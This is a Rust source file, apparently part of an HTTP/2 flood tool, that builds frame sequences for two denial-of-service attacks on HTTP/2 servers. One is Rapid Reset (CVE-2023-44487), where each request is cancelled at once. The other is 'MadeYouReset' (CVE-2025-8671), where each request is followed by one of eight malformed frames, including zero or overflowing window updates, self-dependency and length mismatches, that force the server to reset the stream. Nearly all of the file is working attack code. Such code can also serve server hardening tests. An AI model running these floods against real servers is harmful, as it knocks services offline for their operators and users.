//! Streams that are opened to be reset: by the client, or by us because the client makes us.

use super::{Flood, get, post, stream_id};
use crate::frames::{END_HEADERS, END_STREAM, Frame, hpack::Block, kind};

/// Rapid reset (CVE-2023-44487): each request is cancelled in the same breath, so that no limit on open streams holds.
#[derive(Debug)]
pub struct RapidReset;

impl Flood for RapidReset {
    fn name(&self) -> &'static str {
        "rapid reset"
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        const CANCEL: u32 = 8;
        vec![
            get(n, host, "/bytes/100000"),
            Frame::reset(stream_id(n), CANCEL),
        ]
    }
}

/// What makes us reset a stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fault {
    /// WINDOW_UPDATE by zero.
    ZeroWindow,
    /// WINDOW_UPDATE beyond the largest window.
    WindowOverflow,
    /// DATA behind the end of the request.
    DataAfterEnd,
    /// A stream that depends on itself.
    SelfDependency,
    /// PRIORITY of the wrong length.
    ShortPriority,
    /// More body than `content-length` says.
    LengthMismatch,
    /// A head that is none: an upper-case name.
    MalformedHead,
    /// Trailers that do not end the stream.
    OpenTrailers,
}

/// Made you reset (CVE-2025-8671): each request is followed by a mistake that makes us reset its stream. To the limit on
/// open streams it is gone, while the work for it goes on.
#[derive(Debug)]
pub struct MadeYouReset(pub Fault);

impl Flood for MadeYouReset {
    fn name(&self) -> &'static str {
        match self.0 {
            Fault::ZeroWindow => "made reset: zero window",
            Fault::WindowOverflow => "made reset: overflow",
            Fault::DataAfterEnd => "made reset: data after end",
            Fault::SelfDependency => "made reset: self-dependency",
            Fault::ShortPriority => "made reset: short priority",
            Fault::LengthMismatch => "made reset: length",
            Fault::MalformedHead => "made reset: malformed head",
            Fault::OpenTrailers => "made reset: open trailers",
        }
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        const LARGEST: u32 = (1 << 31) - 1;
        let id = stream_id(n);
        let whole = || get(n, host, "/bytes/100000");
        match self.0 {
            Fault::ZeroWindow => vec![whole(), Frame::window_update(id, 0)],
            Fault::WindowOverflow => vec![whole(), Frame::window_update(id, LARGEST)],
            Fault::DataAfterEnd => vec![whole(), Frame::data(id, 0, *b"more")],
            Fault::SelfDependency => vec![whole(), Frame::priority(id, id)],
            Fault::ShortPriority => vec![whole(), Frame::new(kind::PRIORITY, 0, id, *b"four")],
            Fault::LengthMismatch => {
                let head = Block::request("POST", host, "/count").field("content-length", "1");
                vec![
                    Frame::headers(id, END_HEADERS, head),
                    Frame::data(id, END_STREAM, *b"more than one"),
                ]
            }
            Fault::MalformedHead => {
                let head = Block::get(host, "/").field("X-Upper", "1");
                vec![Frame::headers(id, END_HEADERS | END_STREAM, head)]
            }
            Fault::OpenTrailers => {
                let trailers = Block::new().field("x-trailer", "1");
                vec![post(n, host), Frame::headers(id, END_HEADERS, trailers)]
            }
        }
    }
}
